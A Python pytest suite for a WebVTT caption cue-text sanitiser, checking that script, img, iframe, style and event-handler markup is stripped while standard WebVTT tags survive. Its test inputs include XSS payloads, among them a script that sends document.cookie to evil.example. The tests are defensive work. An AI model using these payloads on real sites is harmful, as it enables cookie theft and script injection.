"""Cue text: what WebVTT defines is kept (normalised), everything else goes; text is shown as written."""

from __future__ import annotations

import pytest

from lambdas.captions.markup import sanitise_cue_text


def clean(text: str, *, from_srt: bool = False) -> str:
    return sanitise_cue_text(text, from_srt=from_srt)[0]


def test_a_script_element_goes_with_its_content() -> None:
    text, removed = sanitise_cue_text("Hi <script>fetch('https://evil.example/?c='+document.cookie)</script>there")
    assert text == "Hi there"
    assert "script" in removed


def test_an_unclosed_script_drops_the_rest_of_the_cue() -> None:
    assert clean("Safe <SCRIPT type=x>alert(1)\nstill script") == "Safe"


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="http://evil.example/x.png">',
        "<img src=http://evil.example/x.png onerror=alert(1)>",
        '<a href="https://evil.example">',
        '<font color="red" face="x">',
        '<iframe src="https://evil.example"></iframe>',
        "<style>::cue{background:url(https://evil.example/t)}</style>",
        "<!-- a comment -->",
        '<c.x style="background:url(https://evil.example)">',
    ],
)
def test_no_remote_reference_survives(markup: str) -> None:
    text = clean(f"before {markup}after")
    assert "evil" not in text
    assert "src" not in text
    assert "href" not in text
    assert "url(" not in text
    assert text.startswith("before")
    assert "after" in text


def test_the_tags_webvtt_defines_are_kept() -> None:
    cue = (
        "<v.loud Ann>Hi</v> <c.yellow.big>c</c> <i>i</i> <b>b</b> <u>u</u> <ruby>漢<rt>kan</rt></ruby>"
        " <lang fr>oui</lang>"
    )
    assert clean(cue) == cue


def test_tags_are_balanced_and_lower_case() -> None:
    assert clean("<I>open <B>nested") == "<i>open <b>nested</b></i>"
    assert clean("stray</b> close") == "stray close"
    assert clean("<b>one <i>two</b> three") == "<b>one <i>two</i></b> three"


def test_rt_only_inside_ruby() -> None:
    assert clean("<rt>x</rt>") == "x"


def test_bad_classes_and_a_bad_lang_tag_go() -> None:
    assert clean("<c.ok.bad!class>x</c>") == "<c.ok>x</c>"
    assert clean("<lang not a tag>x</lang>") == "x"


def test_attributes_of_other_tags_go() -> None:
    assert clean('<b onclick="alert(1)">x</b>') == "<b>x</b>"


def test_cue_timestamps_are_kept_and_normalised() -> None:
    assert clean("one <00:01.500>two") == "one <00:00:01.500>two"


def test_text_is_escaped_as_it_reads() -> None:
    assert clean("Tom &amp; Jerry & friends: 1 < 2 > 0") == "Tom &amp; Jerry &amp; friends: 1 &lt; 2 &gt; 0"
    assert clean("&lt;script&gt;") == "&lt;script&gt;"  # text that looks like markup stays text


def test_no_line_can_end_the_cue_early() -> None:
    text = clean("a --> b\n\n\nc")
    assert "-->" not in text
    assert "\n\n" not in text
    assert clean("<v a-->x") == "<v a>x</v>"


def test_control_characters_go() -> None:
    assert clean("a\x07b\x1bc\u0085d") == "abcd"


def test_subrip_override_codes_go() -> None:
    assert clean(r"{\an8}{\i1}top", from_srt=True) == "top"


def test_an_empty_result_is_empty() -> None:
    assert clean("<script>x</script>") == ""
    assert clean("<b></b>") == ""


def test_nesting_is_bounded() -> None:
    text, removed = sanitise_cue_text("<b>" * 100 + "deep")
    assert text == "<b>" * 8 + "deep" + "</b>" * 8
    assert "nesting" in removed
